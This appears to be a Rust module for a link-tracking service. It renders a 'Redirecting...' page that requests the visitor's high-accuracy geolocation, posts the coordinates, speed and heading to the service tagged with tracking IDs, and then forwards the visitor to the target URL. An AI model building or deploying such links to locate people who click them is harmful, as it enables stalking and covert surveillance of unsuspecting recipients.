//! Interstitial page served at the tracking URL
//!
//! The page asks the browser for a high-accuracy position, reports the best
//! fix to `/api/update-location` and then navigates to the target. Every wait
//! is bounded, so the visitor always reaches the target URL, including when
//! the location submission itself hangs.
//!
//! Client-side states: `awaiting-first-fix` -> `awaiting-best-fix` ->
//! `submitted` | `timed-out`.

/// Fixes with an accuracy radius below this (and better than any seen so far) are submitted
pub const ACCURACY_THRESHOLD_M: u32 = 200;

/// Time allowed for the position watch before one final single-shot request
pub const BEST_FIX_WINDOW_MS: u32 = 8_000;

/// Timeout of the final single-shot position request
pub const FINAL_FIX_TIMEOUT_MS: u32 = 2_000;

/// Unconditional navigation if nothing has been submitted by then
pub const HARD_CEILING_MS: u32 = 10_000;

/// Delay before navigating after a watch error or permission denial
pub const DENIED_REDIRECT_DELAY_MS: u32 = 1_000;

/// Delay before navigating when the browser has no geolocation support
pub const UNSUPPORTED_REDIRECT_DELAY_MS: u32 = 2_000;

/// Path the page posts precise coordinates to
pub const UPDATE_LOCATION_PATH: &str = "/api/update-location";

const TEMPLATE: &str = r#"<!DOCTYPE html>
<html>
<head>
  <meta charset="UTF-8">
  <meta name="viewport" content="width=device-width, initial-scale=1.0">
  <meta name="referrer" content="no-referrer">
  <title>Redirecting...</title>
  <style>
    body {
      font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif;
      display: flex;
      align-items: center;
      justify-content: center;
      min-height: 100vh;
      margin: 0;
      background: linear-gradient(135deg, #667eea 0%, #764ba2 100%);
    }
    .container { text-align: center; color: white; }
    .spinner {
      border: 4px solid rgba(255,255,255,0.3);
      border-radius: 50%;
      border-top: 4px solid white;
      width: 40px;
      height: 40px;
      animation: spin 1s linear infinite;
      margin: 20px auto;
    }
    .detail { font-size: 14px; color: rgba(255,255,255,0.75); }
    @keyframes spin {
      0% { transform: rotate(0deg); }
      100% { transform: rotate(360deg); }
    }
  </style>
</head>
<body>
  <div class="container">
    <div class="spinner"></div>
    <p id="status-title">Getting your location...</p>
    <p id="status-detail" class="detail">Please wait a moment</p>
  </div>
  <script>
    const redirectUrl = __REDIRECT_URL__;
    const linkId = __LINK_ID__;
    const trackingId = __TRACKING_ID__;

    const ACCURACY_THRESHOLD_M = __ACCURACY_THRESHOLD_M__;
    const BEST_FIX_WINDOW_MS = __BEST_FIX_WINDOW_MS__;
    const FINAL_FIX_TIMEOUT_MS = __FINAL_FIX_TIMEOUT_MS__;
    const HARD_CEILING_MS = __HARD_CEILING_MS__;
    const DENIED_REDIRECT_DELAY_MS = __DENIED_REDIRECT_DELAY_MS__;
    const UNSUPPORTED_REDIRECT_DELAY_MS = __UNSUPPORTED_REDIRECT_DELAY_MS__;

    let state = 'awaiting-first-fix';
    let bestAccuracy = Infinity;
    let watchId = null;
    let navigated = false;

    function setStatus(title, detail) {
      document.getElementById('status-title').textContent = title;
      document.getElementById('status-detail').textContent = detail;
    }

    function isFinal() {
      return state === 'submitted' || state === 'timed-out';
    }

    function stopWatching() {
      if (watchId !== null) {
        navigator.geolocation.clearWatch(watchId);
        watchId = null;
      }
    }

    function navigate() {
      if (navigated) return;
      navigated = true;
      stopWatching();
      window.location.href = redirectUrl;
    }

    function timeOut(delayMs) {
      if (isFinal()) return;
      state = 'timed-out';
      stopWatching();
      setTimeout(navigate, delayMs);
    }

    function submit(position) {
      if (isFinal()) return;
      state = 'submitted';
      stopWatching();
      setStatus('Location captured', 'Redirecting...');

      const coords = position.coords;
      fetch(__UPDATE_LOCATION_PATH__, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        keepalive: true,
        body: JSON.stringify({
          linkId: linkId,
          trackingId: trackingId,
          latitude: coords.latitude,
          longitude: coords.longitude,
          accuracy: coords.accuracy,
          altitude: coords.altitude,
          altitudeAccuracy: coords.altitudeAccuracy,
          heading: coords.heading,
          speed: coords.speed
        })
      }).catch(function () {}).finally(navigate);
    }

    function onFix(position) {
      if (isFinal()) return;
      if (state === 'awaiting-first-fix') state = 'awaiting-best-fix';

      const accuracy = position.coords.accuracy;
      setStatus('Getting your location...', 'Accuracy: ±' + Math.round(accuracy) + 'm');

      if (accuracy < bestAccuracy) {
        bestAccuracy = accuracy;
        if (accuracy < ACCURACY_THRESHOLD_M) submit(position);
      }
    }

    function onWatchError() {
      if (isFinal()) return;
      setStatus('Location unavailable', 'Redirecting...');
      timeOut(DENIED_REDIRECT_DELAY_MS);
    }

    if (!('geolocation' in navigator)) {
      setStatus('Location not supported', 'Redirecting...');
      timeOut(UNSUPPORTED_REDIRECT_DELAY_MS);
    } else {
      watchId = navigator.geolocation.watchPosition(onFix, onWatchError, {
        enableHighAccuracy: true,
        timeout: HARD_CEILING_MS,
        maximumAge: 0
      });

      setTimeout(function () {
        if (isFinal()) return;
        navigator.geolocation.getCurrentPosition(submit, function () { timeOut(0); }, {
          enableHighAccuracy: true,
          timeout: FINAL_FIX_TIMEOUT_MS,
          maximumAge: 0
        });
      }, BEST_FIX_WINDOW_MS);
    }

    // Navigates even while a submission is still in flight
    setTimeout(function hardCeiling() {
      if (!isFinal()) state = 'timed-out';
      navigate();
    }, HARD_CEILING_MS);
  </script>
</body>
</html>
"#;

/// Encode a value as a JavaScript string literal that is safe inside `<script>`
fn js_string(value: &str) -> String {
    serde_json::Value::String(value.to_string())
        .to_string()
        .replace('<', "\\u003c")
        .replace('>', "\\u003e")
        .replace('&', "\\u0026")
}

/// Render the interstitial for one visit
///
/// `tracking_id` is the id of the visit record the page will patch.
pub fn render_interstitial(redirect_url: &str, link_id: &str, tracking_id: &str) -> String {
    TEMPLATE
        .replace("__UPDATE_LOCATION_PATH__", &js_string(UPDATE_LOCATION_PATH))
        .replace("__ACCURACY_THRESHOLD_M__", &ACCURACY_THRESHOLD_M.to_string())
        .replace("__BEST_FIX_WINDOW_MS__", &BEST_FIX_WINDOW_MS.to_string())
        .replace("__FINAL_FIX_TIMEOUT_MS__", &FINAL_FIX_TIMEOUT_MS.to_string())
        .replace("__HARD_CEILING_MS__", &HARD_CEILING_MS.to_string())
        .replace(
            "__DENIED_REDIRECT_DELAY_MS__",
            &DENIED_REDIRECT_DELAY_MS.to_string(),
        )
        .replace(
            "__UNSUPPORTED_REDIRECT_DELAY_MS__",
            &UNSUPPORTED_REDIRECT_DELAY_MS.to_string(),
        )
        .replace("__LINK_ID__", &js_string(link_id))
        .replace("__TRACKING_ID__", &js_string(tracking_id))
        // User-supplied, so substituted last
        .replace("__REDIRECT_URL__", &js_string(redirect_url))
}
